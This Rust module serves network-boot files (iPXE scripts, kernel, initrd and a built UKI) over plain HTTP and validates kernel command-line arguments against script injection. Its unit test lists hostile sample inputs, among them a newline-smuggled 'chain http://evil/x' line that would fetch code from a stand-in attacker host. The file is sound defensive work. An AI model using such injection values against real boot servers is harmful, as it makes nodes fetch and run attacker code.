//! Network boot: the files a node fetches to start the Warden ramdisk, served
//! under `/boot/` on a plain-HTTP listener of their own (`--boot-listen`).
//!
//! - `warden.ipxe` — the iPXE script. It chains the UKI with the command
//!   line, so the firmware measures one image holding kernel, initrd and
//!   command line (PCR 4), and the kernel's EFI stub measures the command
//!   line and the initrd it was handed (PCR 9).
//! - `warden-kernel.ipxe` — the same with `kernel` + `initrd`, for iPXE
//!   builds that hand the initrd over the LoadFile2 protocol (iPXE ≥ 1.21.1),
//!   where the kernel measures it. Older iPXE (Debian 12's QEMU ROM is from
//!   2019) passes it as a file the kernel does not measure; the server then
//!   refuses the boot because PCR 9 lacks the initrd (`docs/netboot.md`).
//! - `vmlinuz`, `initramfs.cpio.zst` — the ramdisk as `scripts/build-ramdisk`
//!   wrote it.
//! - `warden-ramdisk.efi` — a UKI built at start-up (see [`crate::uki`])
//!   whose embedded command line carries this server's URL and CA pin, for
//!   UEFI HTTP boot without iPXE.
//! - `manifest.json` — each file's size and SHA-256, and the command line.
//!
//! Plain HTTP because firmware and iPXE cannot pin the server's private CA;
//! nothing here is secret (the CA pin is a public fingerprint), and what the
//! node booted is proven by measured boot and attestation, not by the
//! transport. The boot listener serves these files and nothing else: no
//! API route is reachable without TLS.
//!
//! `?extra=ARGS` on a script URL appends ARGS to the command line, only when
//! the server was started with `--boot-allow-extra` (labs and tests: the
//! extra keys are measured into PCR 9, so a policy must still admit them).

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use axum::body::Bytes;
use axum::extract::{Path as UrlPath, Query, State};
use axum::http::{header, StatusCode};
use axum::response::{IntoResponse, Response};
use axum::routing::get;
use axum::Router;
use serde::Deserialize;
use sha2::{Digest, Sha256};

/// The systemd EFI stub Debian ships (package systemd-boot-efi).
pub const DEFAULT_STUB: &str = "/usr/lib/systemd/boot/efi/linuxx64.efi.stub";
/// The ramdisk's kernel, as `scripts/build-ramdisk` names it.
pub const KERNEL_FILE: &str = "vmlinuz";
/// The ramdisk's initrd, as `scripts/build-ramdisk` names it.
pub const INITRD_FILE: &str = "initramfs.cpio.zst";
/// The UKI the server builds.
pub const UKI_FILE: &str = "warden-ramdisk.efi";
/// The default iPXE script (chains the UKI).
pub const SCRIPT_FILE: &str = "warden.ipxe";
/// The kernel + initrd iPXE script.
pub const KERNEL_SCRIPT_FILE: &str = "warden-kernel.ipxe";

/// What the operator chose for network boot.
#[derive(Debug, Clone)]
pub struct BootOptions {
    /// Directory holding [`KERNEL_FILE`] and [`INITRD_FILE`].
    pub dir: PathBuf,
    /// The plain-HTTP address to serve `/boot/` on.
    pub listen: SocketAddr,
    /// The API's URL as nodes reach it (`https://HOST:PORT`).
    pub server_url: String,
    /// `sha256:HEX` of the CA certificate.
    pub ca_pin: String,
    /// Appended to the command line (e.g. `console=ttyS0`).
    pub cmdline_extra: String,
    /// The EFI stub the UKI is built on.
    pub stub: PathBuf,
    /// Honour `?extra=` on script URLs.
    pub allow_extra: bool,
}

/// Why the boot files cannot be served.
#[derive(Debug, thiserror::Error)]
pub enum BootError {
    #[error(
        "boot file {path}: {source} (run scripts/build-ramdisk, or point --boot-dir at its output)"
    )]
    Read {
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
    #[error("EFI stub {path}: {source} (install systemd-boot-efi, or pass --boot-efi-stub)")]
    Stub {
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
    #[error("building {UKI_FILE}: {0}")]
    Uki(#[from] crate::uki::UkiError),
    #[error("command line: {0}")]
    Cmdline(String),
    #[error("binding the boot listener {addr}: {source}")]
    Bind {
        addr: SocketAddr,
        #[source]
        source: std::io::Error,
    },
}

/// Everything `/boot/` serves, in memory (the ramdisk is ~16 MiB; the UKI
/// about as much again).
#[derive(Debug)]
pub struct BootFiles {
    cmdline: String,
    allow_extra: bool,
    files: BTreeMap<&'static str, (&'static str, Bytes)>,
}

/// The command line every boot path gives the kernel.
pub fn cmdline(server_url: &str, ca_pin: &str, extra: &str) -> Result<String, BootError> {
    for (what, v) in [("server URL", server_url), ("CA pin", ca_pin)] {
        if v.is_empty() || v.chars().any(|c| c.is_whitespace() || c.is_control()) {
            return Err(BootError::Cmdline(format!(
                "{what} {v:?} is empty or has spaces"
            )));
        }
    }
    check_args(extra)?;
    let mut line = format!("warden.server={server_url} warden.ca={ca_pin}");
    if !extra.trim().is_empty() {
        line.push(' ');
        line.push_str(extra.trim());
    }
    Ok(line)
}

/// Extra kernel arguments: printable ASCII, no quotes (iPXE and the kernel
/// would split them differently), no newlines (a script injection).
fn check_args(args: &str) -> Result<(), BootError> {
    if let Some(c) = args
        .chars()
        .find(|&c| !(c == ' ' || c.is_ascii_graphic()) || matches!(c, '"' | '\'' | '$' | '\\'))
    {
        return Err(BootError::Cmdline(format!(
            "{args:?} has {c:?}; only printable ASCII without quotes, `$` or `\\` is allowed"
        )));
    }
    if args.len() > 2048 {
        return Err(BootError::Cmdline(format!(
            "{} bytes of extra arguments (at most 2048)",
            args.len()
        )));
    }
    Ok(())
}

fn read(path: &Path) -> Result<Bytes, BootError> {
    std::fs::read(path)
        .map(Bytes::from)
        .map_err(|source| BootError::Read {
            path: path.to_owned(),
            source,
        })
}

/// The iPXE script that chains the UKI.
fn uki_script(cmdline: &str) -> String {
    format!(
        "#!ipxe\n\
         # Warden ramdisk. The UKI is one image holding kernel, initrd and\n\
         # command line, so firmware and kernel measure all of it (docs/netboot.md).\n\
         chain {UKI_FILE} {cmdline}\n"
    )
}

/// The iPXE script that loads kernel and initrd separately.
fn kernel_script(cmdline: &str) -> String {
    format!(
        "#!ipxe\n\
         # Warden ramdisk as kernel + initrd. Needs an iPXE that hands the initrd\n\
         # over LoadFile2 (>= 1.21.1), or the initrd is not measured and the\n\
         # attestation fails (docs/netboot.md).\n\
         kernel {KERNEL_FILE} initrd={INITRD_FILE} {cmdline}\n\
         initrd {INITRD_FILE}\n\
         boot\n"
    )
}

impl BootFiles {
    /// Reads the ramdisk and builds the UKI and scripts.
    pub fn load(options: &BootOptions) -> Result<BootFiles, BootError> {
        let cmdline = cmdline(&options.server_url, &options.ca_pin, &options.cmdline_extra)?;
        let kernel = read(&options.dir.join(KERNEL_FILE))?;
        let initrd = read(&options.dir.join(INITRD_FILE))?;
        let stub = std::fs::read(&options.stub).map_err(|source| BootError::Stub {
            path: options.stub.clone(),
            source,
        })?;
        let osrel = "NAME=\"Warden ramdisk\"\nID=warden\n";
        let uki = crate::uki::build(
            &stub,
            &[
                (".osrel", osrel.as_bytes()),
                (".cmdline", cmdline.as_bytes()),
                (".linux", &kernel),
                (".initrd", &initrd),
            ],
        )?;
        let mut files = BTreeMap::new();
        files.insert(
            SCRIPT_FILE,
            ("text/plain", Bytes::from(uki_script(&cmdline))),
        );
        files.insert(
            KERNEL_SCRIPT_FILE,
            ("text/plain", Bytes::from(kernel_script(&cmdline))),
        );
        files.insert(KERNEL_FILE, ("application/octet-stream", kernel));
        files.insert(INITRD_FILE, ("application/octet-stream", initrd));
        files.insert(UKI_FILE, ("application/efi", Bytes::from(uki)));
        let manifest = serde_json::json!({
            "cmdline": cmdline,
            "files": files.iter().map(|(name, (_, bytes))| {
                (name.to_string(), serde_json::json!({
                    "size": bytes.len(),
                    "sha256": hex::encode(Sha256::digest(bytes)),
                }))
            }).collect::<BTreeMap<_, _>>(),
        });
        let manifest = serde_json::to_vec_pretty(&manifest).unwrap_or_default();
        files.insert("manifest.json", ("application/json", Bytes::from(manifest)));
        Ok(BootFiles {
            cmdline,
            allow_extra: options.allow_extra,
            files,
        })
    }

    /// The command line the scripts and the UKI carry.
    pub fn cmdline(&self) -> &str {
        &self.cmdline
    }

    /// The names served under `/boot/`.
    pub fn names(&self) -> impl Iterator<Item = &'static str> + '_ {
        self.files.keys().copied()
    }
}

#[derive(Debug, Deserialize)]
struct ScriptQuery {
    extra: Option<String>,
}

async fn file(
    State(files): State<Arc<BootFiles>>,
    UrlPath(name): UrlPath<String>,
    Query(query): Query<ScriptQuery>,
) -> Response {
    let Some((name, (content_type, bytes))) = files.files.get_key_value(name.as_str()) else {
        return (StatusCode::NOT_FOUND, format!("no boot file {name:?}\n")).into_response();
    };
    let body = match (query.extra.as_deref(), *name) {
        (Some(extra), SCRIPT_FILE | KERNEL_SCRIPT_FILE) => {
            if !files.allow_extra {
                return (
                    StatusCode::FORBIDDEN,
                    "extra kernel arguments are off (start the server with --boot-allow-extra)\n",
                )
                    .into_response();
            }
            if let Err(e) = check_args(extra) {
                return (StatusCode::BAD_REQUEST, format!("extra: {e}\n")).into_response();
            }
            let line = format!("{} {}", files.cmdline, extra.trim());
            tracing::info!(script = name, extra, "boot script with extra arguments");
            Bytes::from(if *name == SCRIPT_FILE {
                uki_script(&line)
            } else {
                kernel_script(&line)
            })
        }
        _ => bytes.clone(),
    };
    ([(header::CONTENT_TYPE, *content_type)], body).into_response()
}

/// The `/boot/` routes.
pub fn router(files: Arc<BootFiles>) -> Router {
    Router::new()
        .route("/boot/{name}", get(file))
        .fallback(|| async { (StatusCode::NOT_FOUND, "only /boot/ is served here\n") })
        .with_state(files)
}

/// Binds the boot listener; [`serve`] runs it.
pub fn bind(addr: SocketAddr) -> Result<std::net::TcpListener, BootError> {
    let bind = |source| BootError::Bind { addr, source };
    let listener = std::net::TcpListener::bind(addr).map_err(bind)?;
    listener.set_nonblocking(true).map_err(bind)?;
    Ok(listener)
}

/// Serves `/boot/` over plain HTTP until `shutdown` completes.
pub async fn serve(
    listener: std::net::TcpListener,
    files: Arc<BootFiles>,
    shutdown: impl std::future::Future<Output = ()> + Send + 'static,
) -> std::io::Result<()> {
    let listener = tokio::net::TcpListener::from_std(listener)?;
    axum::serve(listener, router(files))
        .with_graceful_shutdown(shutdown)
        .await
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_command_line_carries_url_and_pin_and_refuses_injection() {
        let line = cmdline("https://10.0.2.2:8443", "sha256:ab", "console=ttyS0").unwrap();
        assert_eq!(
            line,
            "warden.server=https://10.0.2.2:8443 warden.ca=sha256:ab console=ttyS0"
        );
        for bad in ["a\nchain http://evil/x", "x=\"y\"", "x=${net0/mac}", "a\\b"] {
            let err = cmdline("https://s", "sha256:ab", bad)
                .unwrap_err()
                .to_string();
            assert!(err.contains("only printable ASCII"), "{bad:?}: {err}");
        }
        assert!(cmdline("https://s x", "sha256:ab", "").is_err());
    }

    #[test]
    fn scripts_chain_relative_names() {
        let s = uki_script("warden.server=u");
        assert!(s.starts_with("#!ipxe\n"));
        assert!(
            s.contains("\nchain warden-ramdisk.efi warden.server=u\n"),
            "{s}"
        );
        let k = kernel_script("warden.server=u");
        assert!(
            k.contains("\nkernel vmlinuz initrd=initramfs.cpio.zst warden.server=u\n"),
            "{k}"
        );
        assert!(k.contains("\ninitrd initramfs.cpio.zst\nboot\n"), "{k}");
    }
}
